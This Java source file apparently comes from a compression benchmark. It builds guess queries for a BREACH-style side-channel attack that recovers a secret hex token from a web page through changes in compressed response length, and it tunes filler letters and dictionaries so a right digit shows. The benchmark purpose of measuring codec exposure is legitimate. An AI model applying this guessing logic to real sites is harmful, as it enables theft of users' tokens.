// SPDX-License-Identifier: Apache-2.0
package org.restcompress.bench.breach;

import java.util.List;
import java.util.SplittableRandom;

/**
 * The form of a guess, without the digit that it tries. The last known characters come first, and then the digit. If
 * the digit is right, the guess repeats one character more of the secret.
 *
 * <p>Everything else is there so that only this match changes the length. The other 15 digits follow, each after a
 * letter, so that they repeat nothing. So every guess of a shape has the same characters, and Huffman codes stay equal.
 * The number and choice of the letters decide how many bits of the last byte are free, and where the codec looks for
 * matches. So they decide whether a right digit shows. In another order they make another body that almost always has
 * the same length. The letters also choose the dictionary that the victim's browser holds, if the coding has one.
 *
 * @param tail how many known characters are repeated
 * @param letters the seed of the letters
 * @param gains by how many bytes the page is shorter on average with a right digit, for each digit
 * @param biases by how many bytes the page is longer with a wrong digit than with others, for each digit. The known
 *     characters may stand before it elsewhere in the page
 * @param noise by how much wrong digits differ from each other, in bytes²
 */
record Shape(int tail, long letters, List<Double> gains, List<Double> biases, double noise) {
    static final String DIGITS = "0123456789abcdef";

    /** Characters that are no hexadecimal digits, and that neither URIs nor JSON escape. */
    private static final String LETTERS = "ghijklmnopqrstuvwxyzGHIJKLMNOPQRSTUVWXYZ-._~";

    /** Tails are at least as long as the shortest matches, and at most as long as matches that satisfy some codecs. */
    private static final int SHORTEST_TAIL = 4;

    private static final int LONGEST_TAIL = 16;
    private static final int MOST_SPARE_LETTERS = 24;

    /** Bytes of gain that one byte² of noise outweighs. Noise that looks like a gain is worse than a small gain. */
    private static final double WEIGHT_OF_NOISE = 4;

    static Shape random(SplittableRandom random) {
        return new Shape(random.nextInt(SHORTEST_TAIL, LONGEST_TAIL + 1), random.nextLong(), List.of(), List.of(), 0);
    }

    Shape measured(List<Double> measuredGains, List<Double> measuredBiases, double measuredNoise) {
        return new Shape(tail, letters, measuredGains, measuredBiases, measuredNoise);
    }

    /** Returns how well the shape shows a right digit: its mean gain, less the weighted noise. */
    double worth() {
        return gains.stream().mapToDouble(Double::doubleValue).average().orElseThrow() - WEIGHT_OF_NOISE * noise;
    }

    Browser.Visit trying(String known, int digit, long order) {
        SplittableRandom chooser = new SplittableRandom(letters);
        char[] noise = new char[DIGITS.length() - 1 + chooser.nextInt(MOST_SPARE_LETTERS)];
        for (int i = 0; i < noise.length; i++) {
            noise[i] = LETTERS.charAt(chooser.nextInt(LETTERS.length()));
        }
        char[] digits = DIGITS.toCharArray();
        SplittableRandom shuffler = new SplittableRandom(order);
        shuffle(noise, shuffler);
        shuffle(digits, shuffler);
        StringBuilder query = new StringBuilder(128)
                .append(known, Math.max(0, known.length() - tail), known.length())
                .append(DIGITS.charAt(digit));
        int next = 0;
        for (char other : digits) {
            if (other != DIGITS.charAt(digit)) {
                query.append(noise[next++]).append(other);
            }
        }
        query.append(noise, next, noise.length - next);
        int dictionary = Math.floorMod(letters, Page.DICTIONARIES.size());
        return new Browser.Visit(query.toString().replace("?", "%3F").replace("=", "%3D"), dictionary);
    }

    private static void shuffle(char[] chars, SplittableRandom random) {
        for (int i = chars.length - 1; i > 0; i--) {
            int j = random.nextInt(i + 1);
            char moved = chars[i];
            chars[i] = chars[j];
            chars[j] = moved;
        }
    }

    /** The attacker's knowledge of the page. */
    static final class Page {
        /** The text before the token. */
        static final String BEFORE_TOKEN = "/searches/save?token=";

        static final int TOKEN_LENGTH = 32;

        /**
         * Queries of the pages that are dictionaries: an empty one, and the characters of guesses without the known
         * ones.
         */
        static final List<String> DICTIONARIES = List.of("", DIGITS, LETTERS, LETTERS + DIGITS);

        private Page() {}

        /** Returns a token with a given beginning and random other digits. */
        static String token(String beginning, SplittableRandom random) {
            StringBuilder token = new StringBuilder(beginning);
            while (token.length() < TOKEN_LENGTH) {
                token.append(Shape.DIGITS.charAt(random.nextInt(Shape.DIGITS.length())));
            }
            return token.toString();
        }
    }
}
